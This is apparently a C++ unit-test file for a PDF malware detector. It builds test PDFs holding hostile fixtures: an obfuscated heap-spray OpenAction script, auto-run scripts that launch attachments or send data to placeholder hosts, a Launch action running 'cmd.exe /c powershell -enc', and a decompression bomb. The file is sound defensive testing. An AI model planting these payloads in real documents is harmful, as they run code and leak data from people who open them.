// PDF detector on PDFs generated here (qpdf parses them for real): obfuscated names, JavaScript in
// actions/name trees/streams, auto actions, Launch, embedded files, links and forms, malformed and
// truncated files; the extracted script.js is judged by the script detector.
#include <gtest/gtest.h>

#include <zlib.h>

#include <cstdio>

#include "collector.h"

namespace airlock::scan {
namespace {

using content_test::Collector;
using content_test::MakeObject;
using content_test::RunDetector;

// Builds a PDF with a correct xref table from object bodies (object i+1 is objects[i]); object 1 is
// the catalog.
std::string BuildPdf(const std::vector<std::string>& objects) {
  std::string out = "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n";
  std::vector<size_t> offsets;
  for (size_t i = 0; i < objects.size(); ++i) {
    offsets.push_back(out.size());
    out += std::to_string(i + 1) + " 0 obj\n" + objects[i] + "\nendobj\n";
  }
  const size_t xref = out.size();
  out += "xref\n0 " + std::to_string(objects.size() + 1) + "\n0000000000 65535 f \n";
  for (size_t off : offsets) {
    char line[32];
    std::snprintf(line, sizeof line, "%010zu 00000 n \n", off);
    out += line;
  }
  out += "trailer\n<< /Size " + std::to_string(objects.size() + 1) + " /Root 1 0 R >>\nstartxref\n" +
         std::to_string(xref) + "\n%%EOF\n";
  return out;
}

std::string Stream(std::string_view dict_extra, std::string_view data) {
  return "<< " + std::string(dict_extra) + " /Length " + std::to_string(data.size()) + " >>\nstream\n" +
         std::string(data) + "\nendstream";
}

const std::string kPages = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>";
const std::string kPage = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>";

class PdfTest : public ::testing::Test {
 protected:
  Collector Scan(std::string_view pdf, std::string name = "doc.pdf") {
    return RunDetector(*pdf_, MakeObject(std::move(name), pdf, "application/pdf"));
  }
  std::unique_ptr<Analyzer> pdf_ = MakePdfDetector();
  std::unique_ptr<Analyzer> scripts_ = MakeScriptDetector();
};

TEST_F(PdfTest, ObfuscatedJavaScriptInOpenActionIsFound) {
  // "/J#61vaScript" and "/J#53" are "/JavaScript" and "/JS" with hex escapes in the names.
  std::string pdf = BuildPdf({"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", kPages, kPage,
                              "<< /Type /Action /S /J#61vaScript /J#53 (var s = unescape\\(\"%u0c0c%u0c0c\"\\); "
                              "while \\(s.length < 0x40000\\) s += s; util.printf\\(\"%45000f\", 1\\);) >>"});
  ASSERT_EQ(pdf.find("/JavaScript"), std::string::npos);
  Collector c = Scan(pdf);
  ASSERT_TRUE(c.Has("pdf.javascript")) << c.Ids();
  EXPECT_EQ(c.Find("pdf.javascript")->severity, 8);  // auto-run + util.printf and a %u0c0c spray
  EXPECT_TRUE(c.HasTechnique("pdf.javascript", "T1059.007"));
  ASSERT_TRUE(c.Has("pdf.auto_action"));
  EXPECT_NE(c.Find("pdf.auto_action")->evidence.find("OpenAction /JavaScript"), std::string::npos);
  EXPECT_FALSE(c.Has("pdf.malformed")) << c.Ids();

  const std::string* js = c.Child("script.js");
  ASSERT_NE(js, nullptr);
  EXPECT_NE(js->find("util.printf(\"%45000f\", 1);"), std::string::npos) << *js;
  Collector judged = RunDetector(*scripts_, MakeObject("script.js", *js));
  EXPECT_TRUE(judged.Has("js.exploit_api")) << judged.Ids();
  EXPECT_TRUE(judged.Has("js.heap_spray")) << judged.Ids();
}

TEST_F(PdfTest, JavaScriptStreamInNamesTree) {
  std::string pdf = BuildPdf({"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 4 0 R >> >>", kPages, kPage,
                              "<< /Names [(init) 5 0 R] >>", "<< /S /JavaScript /JS 6 0 R >>",
                              Stream("", "app.alert('hello');")});
  Collector c = Scan(pdf);
  ASSERT_TRUE(c.Has("pdf.javascript")) << c.Ids();
  // Document-level JavaScript runs on open (automatic), but an alert is display-only.
  EXPECT_EQ(c.Find("pdf.javascript")->severity, 3);
  ASSERT_TRUE(c.Has("pdf.auto_action"));
  EXPECT_NE(c.Find("pdf.auto_action")->evidence.find("Names /JavaScript"), std::string::npos);
  ASSERT_NE(c.Child("script.js"), nullptr);
  EXPECT_EQ(*c.Child("script.js"), "app.alert('hello');");
  EXPECT_TRUE(RunDetector(*scripts_, MakeObject("script.js", *c.Child("script.js"))).findings.empty());
}

TEST_F(PdfTest, PageAdditionalActionsAreAutoActions) {
  std::string pdf = BuildPdf({"<< /Type /Catalog /Pages 2 0 R >>", kPages,
                              "<< /Type /Page /Parent 2 0 R /AA << /O << /S /JavaScript /JS (this.print\\(\\)) >> >> >>"});
  Collector c = Scan(pdf);
  EXPECT_TRUE(c.Has("pdf.auto_action")) << c.Ids();
  EXPECT_EQ(c.Find("pdf.javascript")->severity, 3);  // print dialog only
}

// Auto-run scripts weighed by what they do: reaching out or running decoded code is malicious (8);
// a print dialog or date formatting on open stays low (3); an unknown script on open stays 6.
std::string OpenActionJs(const std::string& js) {
  return BuildPdf({"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", kPages, kPage,
                   "<< /Type /Action /S /JavaScript /JS 5 0 R >>", Stream("", js)});
}

TEST_F(PdfTest, AutoRunScriptsThatReachOutAreMalicious) {
  const std::pair<const char*, const char*> cases[] = {
      {"this.exportDataObject({ cName: \"invoice.exe\", nLaunch: 2 });", "exportDataObject"},
      {"app.launchURL(\"http://update.example.net/get.php\", true);", "launchURL"},
      {"this.submitForm({ cURL: \"https://collect.example.net/p\", cSubmitAs: \"HTML\" });", "submitForm"},
      {"var p = \"%61%6c%65%72%74%28%31%29\"; eval(unescape(p));", "eval of unescape"},
      {"var s = String.fromCharCode(97,108,101,114,116); eval(s + '(1)');", "eval of unescape/fromCharCode"},
  };
  for (const auto& [js, what] : cases) {
    Collector c = Scan(OpenActionJs(js));
    ASSERT_TRUE(c.Has("pdf.javascript")) << js;
    EXPECT_EQ(c.Find("pdf.javascript")->severity, 8) << js;
    EXPECT_NE(c.Find("pdf.javascript")->title.find(what), std::string::npos) << c.Find("pdf.javascript")->title;
  }
  // The same capability without an automatic trigger is suspicious, not malicious.
  std::string manual = BuildPdf({"<< /Type /Catalog /Pages 2 0 R >>", kPages, kPage,
                                 "<< /Type /Annot /Subtype /Link /A << /S /JavaScript /JS (app.launchURL\\(\"http://x.example/\"\\);) >> >>"});
  Collector m = Scan(manual);
  EXPECT_EQ(m.Find("pdf.javascript")->severity, 6) << m.Ids();
}

TEST_F(PdfTest, DocumentLevelScriptThatLaunchesAnAttachmentIsMalicious) {
  std::string pdf = BuildPdf({"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 4 0 R >> >>", kPages, kPage,
                              "<< /Names [(init) 5 0 R] >>", "<< /S /JavaScript /JS 6 0 R >>",
                              Stream("", "this.exportDataObject({ cName: 'scan.pdf.exe', nLaunch: 2 });")});
  Collector c = Scan(pdf);
  ASSERT_TRUE(c.Has("pdf.javascript")) << c.Ids();
  EXPECT_EQ(c.Find("pdf.javascript")->severity, 8);
}

TEST_F(PdfTest, DisplayOnlyAutoRunScriptsStayLow) {
  for (const char* js : {"this.print({ bUI: true, bSilent: false });",
                         "AFDate_FormatEx(\"dd.mm.yyyy\"); event.value = util.printx(\"99-99\", event.value);",
                         "app.alert(\"Please fill in all fields.\");"}) {
    Collector c = Scan(OpenActionJs(js));
    ASSERT_TRUE(c.Has("pdf.javascript")) << js;
    EXPECT_EQ(c.Find("pdf.javascript")->severity, 3) << js;
  }
  // Unknown code on open (a function, no known API) keeps the old weight.
  Collector u = Scan(OpenActionJs("function f(a){ return a * 2; } var x = f(this.numPages);"));
  EXPECT_EQ(u.Find("pdf.javascript")->severity, 6);
}

TEST_F(PdfTest, EmbeddedFileIsExtractedWithItsName) {
  std::string payload = content_test::FakePe(300);
  std::string pdf = BuildPdf({"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(payload.exe) 4 0 R] >> >> >>",
                              kPages, kPage,
                              "<< /Type /Filespec /F (payload.exe) /UF (payload.exe) /EF << /F 5 0 R >> >>",
                              Stream("/Type /EmbeddedFile", payload)});
  Collector c = Scan(pdf);
  ASSERT_TRUE(c.Has("pdf.embedded_file")) << c.Ids();
  EXPECT_TRUE(c.HasTechnique("pdf.embedded_file", "T1027.009"));
  const std::string* child = c.Child("payload.exe");
  ASSERT_NE(child, nullptr);
  EXPECT_EQ(*child, payload);
}

TEST_F(PdfTest, EmbeddedFileWithoutFilespecStillExtracted) {
  std::string pdf = BuildPdf({"<< /Type /Catalog /Pages 2 0 R >>", kPages, kPage,
                              Stream("/Type /EmbeddedFile", "orphan data")});
  Collector c = Scan(pdf);
  ASSERT_NE(c.Child("embedded.bin"), nullptr) << c.Ids();
  EXPECT_EQ(*c.Child("embedded.bin"), "orphan data");
}

TEST_F(PdfTest, EmbeddedFileRespectsByteBudget) {
  std::string pdf = BuildPdf({"<< /Type /Catalog /Pages 2 0 R >>", kPages, kPage,
                              Stream("/Type /EmbeddedFile", std::string(5000, 'A'))});
  Collector c = RunDetector(*pdf_, MakeObject("doc.pdf", pdf, "application/pdf"), 1000);
  EXPECT_TRUE(c.Has("pdf.embedded_file"));
  for (const auto& child : c.children) EXPECT_LE(child.second.size(), 1000u);
}

TEST_F(PdfTest, DecompressionBombIsCapped) {
  // 48 MiB of spaces deflate to ~50 KiB; the decoded script must stop at the byte budget.
  std::string plain(48u << 20, ' ');
  plain.replace(0, 13, "app.alert(1);");
  uLongf size = compressBound(plain.size());
  std::string deflated(size, '\0');
  ASSERT_EQ(compress2(reinterpret_cast<Bytef*>(deflated.data()), &size,
                      reinterpret_cast<const Bytef*>(plain.data()), plain.size(), 9), Z_OK);
  deflated.resize(size);
  plain.clear();
  std::string pdf = BuildPdf({"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", kPages, kPage,
                              "<< /S /JavaScript /JS 5 0 R >>", Stream("/Filter /FlateDecode", deflated)});
  Collector c = RunDetector(*pdf_, MakeObject("bomb.pdf", pdf, "application/pdf"), 1u << 20);
  EXPECT_TRUE(c.Has("pdf.auto_action")) << c.Ids();
  // The capped prefix is still extracted (an uncapped 48 MiB script would be refused by the budget).
  const std::string* js = c.Child("script.js");
  ASSERT_NE(js, nullptr) << c.Ids();
  EXPECT_TRUE(js->starts_with("app.alert(1);"));
  EXPECT_LE(js->size(), 1u << 20);
}

TEST_F(PdfTest, TooManyObjectsIsReportedNotWalked) {
  std::vector<std::string> objects = {"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", kPages, kPage,
                                      "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"};
  objects.resize(200010, "null");
  Collector c = Scan(BuildPdf(objects));
  ASSERT_TRUE(c.Has("pdf.malformed")) << c.Ids();
  EXPECT_NE(c.Find("pdf.malformed")->evidence.find("objects"), std::string::npos);
  EXPECT_FALSE(c.Has("pdf.javascript"));
}

TEST_F(PdfTest, LaunchAction) {
  std::string pdf = BuildPdf({"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /Win << /F (cmd.exe) "
                              "/P (/c powershell -enc AAAA) >> >> >>", kPages, kPage});
  Collector c = Scan(pdf);
  ASSERT_TRUE(c.Has("pdf.launch")) << c.Ids();
  EXPECT_EQ(c.Find("pdf.launch")->severity, 8);
  EXPECT_TRUE(c.HasTechnique("pdf.launch", "T1204.002"));
  EXPECT_EQ(c.Find("pdf.launch")->evidence, "cmd.exe");
}

TEST_F(PdfTest, LinksFormsAndOtherActions) {
  std::string pdf = BuildPdf({
      "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 5 0 R >> >>", kPages,
      "<< /Type /Page /Parent 2 0 R /Annots [4 0 R 6 0 R 7 0 R 8 0 R] >>",
      "<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://login.example.net/verify) >> >>",
      Stream("", "<xdp:xdp/>"),
      "<< /Type /Annot /Subtype /Widget /A << /S /SubmitForm /F (https://collect.example.net/p) >> >>",
      "<< /Type /Annot /Subtype /Link /A << /S /GoToR /F (\\\\\\\\10.0.0.5\\\\share\\\\a.pdf) /D [0 /Fit] >> >>",
      "<< /Type /Annot /Subtype /RichMedia /RichMediaContent << >> >>"});
  Collector c = Scan(pdf);
  ASSERT_TRUE(c.Has("pdf.uri")) << c.Ids();
  EXPECT_EQ(c.Find("pdf.uri")->severity, 1);
  EXPECT_NE(c.Find("pdf.uri")->evidence.find("https://login.example.net/verify"), std::string::npos);
  EXPECT_TRUE(c.Has("pdf.submit_form"));
  EXPECT_TRUE(c.HasTechnique("pdf.remote_goto", "T1187"));
  EXPECT_TRUE(c.Has("pdf.richmedia"));
  EXPECT_TRUE(c.Has("pdf.xfa"));
  EXPECT_FALSE(c.Has("pdf.javascript"));
}

TEST_F(PdfTest, PlainDocumentIsClean) {
  // OpenAction to a destination (open at page 1, fit) is what ordinary PDFs do.
  std::string pdf = BuildPdf({"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>", kPages,
                              "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
                              Stream("", "BT /F1 12 Tf 72 712 Td (Quarterly report) Tj ET")});
  Collector c = Scan(pdf);
  EXPECT_TRUE(c.findings.empty()) << c.Ids();
  EXPECT_TRUE(c.children.empty());
}

TEST_F(PdfTest, BrokenXrefIsRecoveredAndStillScanned) {
  std::string pdf = BuildPdf({"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", kPages, kPage,
                              "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"});
  size_t startxref = pdf.rfind("startxref\n");
  pdf.replace(startxref + 10, pdf.find('\n', startxref + 10) - startxref - 10, "999999");
  Collector c = Scan(pdf);
  EXPECT_TRUE(c.Has("pdf.javascript")) << c.Ids();
  ASSERT_TRUE(c.Has("pdf.malformed")) << c.Ids();
  EXPECT_EQ(c.Find("pdf.malformed")->severity, 2);
}

TEST_F(PdfTest, GarbageIsMalformedNotACrash) {
  Collector c = Scan("%PDF-1.4\n\x01\x02 not a pdf at all");
  ASSERT_TRUE(c.Has("pdf.malformed")) << c.Ids();
  EXPECT_FALSE(c.Find("pdf.malformed")->evidence.empty());
}

TEST_F(PdfTest, EveryTruncationIsHandled) {
  std::string pdf = BuildPdf({"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", kPages, kPage,
                              "<< /S /JavaScript /JS 5 0 R >>", Stream("", "app.alert(1);")});
  for (size_t n = 0; n < pdf.size(); n += 3) {
    std::string cut = pdf.substr(0, n);
    EXPECT_NO_THROW(Scan(cut)) << n;
  }
}

TEST_F(PdfTest, ClamavTestPdfEmbeddedExecutableIsExtracted) {
  // Debian's clamav-testfiles: a Ghostscript PDF carrying ClamAV's harmless test executable.
  auto data = content_test::ReadFile("/usr/share/clamav-testfiles/clam.pdf");
  if (!data) GTEST_SKIP() << "clamav-testfiles not installed (apt-get install clamav-testfiles)";
  Collector c = Scan(*data, "clam.pdf");
  EXPECT_FALSE(c.Has("pdf.javascript")) << c.Ids();
  ASSERT_TRUE(c.Has("pdf.embedded_file")) << c.Ids();
  ASSERT_EQ(c.children.size(), 1u);
  EXPECT_TRUE(c.children[0].second.starts_with("MZ")) << c.children[0].first;
}

TEST_F(PdfTest, AcceptsByMagicMimeOrName) {
  EXPECT_TRUE(pdf_->Accepts(MakeObject("x", "%PDF-1.4")));
  EXPECT_TRUE(pdf_->Accepts(MakeObject("x", std::string(500, ' ') + "%PDF-1.4")));
  EXPECT_TRUE(pdf_->Accepts(MakeObject("x", "", "application/pdf")));
  EXPECT_FALSE(pdf_->Accepts(MakeObject("x.pdf", content_test::FakePe())));
  EXPECT_FALSE(pdf_->Accepts(MakeObject("x.txt", "hello")));
}

}  // namespace
}  // namespace airlock::scan
